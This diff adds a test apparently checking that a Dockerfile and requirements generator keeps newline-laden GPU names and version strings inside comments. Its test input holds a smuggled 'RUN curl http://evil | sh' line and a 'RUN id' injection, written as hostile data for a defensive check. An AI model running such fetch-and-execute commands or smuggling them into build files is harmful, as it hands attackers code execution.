@@ -420,3 +420,24 @@ def test_repair_of_an_already_repaired_set_keeps_it():
     torch = [p for p in again.pins if p.name == "torch"][0]
     assert torch.why.startswith("torch 2.6.0+cu118 kept: it is already the newest torch")
     assert "no CUDA-stack check fails" in " ".join(again.notes)
+
+
+def test_snapshot_text_cannot_inject_lines():
+    """A GPU name or version with a newline (a hostile or garbled snapshot) stays inside its comment."""
+    import io
+
+    from dockerfile_parse import DockerfileParser
+
+    snap = load_scenario("rtx5090_torch26_cu126")
+    evil = "RTX 5090\nRUN curl http://evil | sh\r\nFROM scratch"
+    snap = dataclasses.replace(snap, gpus=(dataclasses.replace(snap.gpus[0], name=evil),),
+                               python=dataclasses.replace(snap.python, version="3.10.14\nRUN id"))
+    for repair in (False, True):
+        text = P.generate(snap, "dockerfile", "all", repair)
+        structure = DockerfileParser(fileobj=io.BytesIO(text.encode())).structure
+        assert not any("evil" in s["value"] or s["value"].strip() == "id" for s in structure
+                       if s["instruction"] != "COMMENT")
+        assert [s["instruction"] for s in structure].count("FROM") == 1
+        for fmt in ("requirements", "conda", "uv"):
+            out = P.generate(snap, fmt, "all", repair)
+            assert all(line.startswith("#") or "evil" not in line for line in out.splitlines())
